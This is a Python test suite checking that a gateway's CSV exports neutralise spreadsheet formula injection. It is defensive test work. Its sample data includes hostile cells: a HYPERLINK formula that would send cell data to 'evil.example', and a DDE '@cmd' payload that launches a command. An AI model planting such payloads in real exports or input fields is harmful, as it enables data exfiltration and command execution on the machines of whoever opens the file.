"""CSV formula injection: every CSV the gateway writes opens in a spreadsheet as text, not as formulas."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx
import pytest
from click.testing import CliRunner
from sqlalchemy import update

from gateway.cli_query import to_csv
from gateway.csv_safety import SafeCsvWriter, csv_cell, neutralise
from gateway.http import create_app
from schema import models
from schema.testing import build_world

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "@SUM(A1:A9)", "\t=1", "\r=1",
                 "-2+3", "=1+1", "-A1"]


def spreadsheet_reads_as_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not cell.lstrip("-").replace(".", "", 1).isdigit()


# ---------------------------------------------------------------- the helper every CSV writer uses
@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_formula_triggers_get_a_single_quote_and_quotes(text: str) -> None:
    assert neutralise(text) == "'" + text
    cell = csv_cell(text)
    assert cell.startswith("\"'") and cell.endswith('"')  # prefixed and quoted
    assert next(csv.reader(io.StringIO(cell))) == ["'" + text]  # a CSV reader gets the text back, quote first


@pytest.mark.parametrize("value, written", [
    (-12, "-12"), (-12.5, "-12.5"), ("-12.50", "-12.50"), ("-7", "-7"),  # numbers stay numbers
    ("Acme, Inc", '"Acme, Inc"'), ('say "hi"', '"say ""hi"""'), ("plain", "plain"), (None, ""), (True, "true"),
    ("a=b", "a=b"), ("", ""),
])
def test_other_cells_are_written_as_csv_would(value: Any, written: str) -> None:
    assert csv_cell(value) == written


def test_writer_round_trips_through_csv_reader() -> None:
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer)
    rows = [["id", "name", "amount"], *[[str(i), name, -i] for i, name in enumerate(HOSTILE_NAMES)],
            ["x", "line\nbreak", "3"]]
    writer.writerows(rows)
    read = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert len(read) == len(rows)
    for original, back in zip(rows[1:-1], read[1:-1], strict=True):
        assert back[1] == "'" + original[1]
        assert back[2] == str(original[2])
    assert read[-1][1] == "line\nbreak"
    assert not any(spreadsheet_reads_as_formula(cell) for row in read for cell in row[:2])


# ---------------------------------------------------------------- through each export route
def client(runtime: Any) -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=create_app(runtime)), base_url="http://gateway")


async def _export(runtime: Any, path: str, token: str) -> list[dict[str, str]]:
    async with client(runtime) as http:
        response = await http.get(path, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


@pytest.fixture
async def hostile_world(runtime: Any) -> Any:
    world = await build_world(runtime)
    keys = sorted(world.organizations)
    async with runtime.sessions() as session, session.begin():
        # written straight to the tables: the export must be safe whatever validation let in, then or now
        for key, name in zip(keys, HOSTILE_NAMES, strict=False):
            await session.execute(update(models.Organization).where(models.Organization.id == world.organizations[key])
                                  .values(name=name, city="@cmd|' /C calc'!A0", domain=f"={key}.example"))
    world.hostile = {world.org_id(key): name for key, name in zip(keys, HOSTILE_NAMES, strict=False)}
    return world


async def test_organizations_export_neutralises_every_text_cell(runtime: Any, hostile_world: Any) -> None:
    exported = await _export(runtime, "/exports/organizations.csv", hostile_world.tokens["platform_admin"])
    by_id = {row["id"]: row for row in exported}
    assert set(hostile_world.hostile) <= set(by_id)
    for org_id, name in hostile_world.hostile.items():
        row = by_id[org_id]
        assert row["name"] == "'" + name
        assert row["city"] == "'@cmd|' /C calc'!A0"
        assert row["domain"].startswith("'=")
    assert not any(spreadsheet_reads_as_formula(cell) for row in exported for cell in row.values())


async def test_subscriptions_export_neutralises_every_text_cell(runtime: Any, hostile_world: Any) -> None:
    exported = await _export(runtime, "/exports/subscriptions.csv", hostile_world.tokens["platform_admin"])
    assert exported, "the world has subscriptions"
    assert all(row["organization_domain"].startswith("'=") for row in exported)
    assert not any(spreadsheet_reads_as_formula(cell) for row in exported for cell in row.values())
    assert all(row["license_count"].isdigit() for row in exported)  # numbers are not touched


# ---------------------------------------------------------------- gateway query --format csv
def test_query_csv_output_neutralises_text_and_keeps_numbers() -> None:
    data = {"organizations": {"nodes": [
        {"id": "T3JnOjE", "name": name, "licenses": -3, "amount": "-12.50"} for name in HOSTILE_NAMES
    ]}}
    read = list(csv.DictReader(io.StringIO(to_csv(data))))
    assert [row["name"] for row in read] == ["'" + name for name in HOSTILE_NAMES]
    assert {row["licenses"] for row in read} == {"-3"} and {row["amount"] for row in read} == {"-12.50"}


def test_gateway_query_command_writes_safe_csv(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from gateway import cli_query
    from gateway.cli import cli

    answer = {"data": {"organizations": {"nodes": [{"name": "=HYPERLINK(\"http://x\")"}, {"name": "@SUM(1)"}]}}}

    def fake_executor(settings: Any, token: Any, operation_name: Any) -> Any:
        async def execute(document: str, variables: dict[str, Any]) -> dict[str, Any]:
            return json.loads(json.dumps(answer))

        async def close() -> None:
            return None

        return execute, close

    monkeypatch.setattr(cli_query, "local_executor", fake_executor)
    document = tmp_path / "orgs.graphql"
    document.write_text("{ organizations { nodes { name } } }")
    env = {"GATEWAY_DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path}/gateway.db"}
    result = CliRunner().invoke(cli, ["query", str(document), "--format", "csv"], env=env)
    assert result.exit_code == 0, result.output
    read = list(csv.reader(io.StringIO(result.output)))
    assert read == [["name"], ["'=HYPERLINK(\"http://x\")"], ["'@SUM(1)"]]


def test_no_csv_is_written_around_the_safe_writer() -> None:
    """A new export must use gateway.csv_safety: a bare csv.writer would let formulas through again."""
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parents[1]
    bare = re.compile(r"\bcsv\.(writer|DictWriter)\s*\(")
    offenders = [str(path.relative_to(root)) for folder in ("gateway", "schema", "plugins")
                 for path in (root / folder).rglob("*.py")
                 if "tests" not in path.parts and bare.search(path.read_text(encoding="utf-8"))]
    assert offenders == []
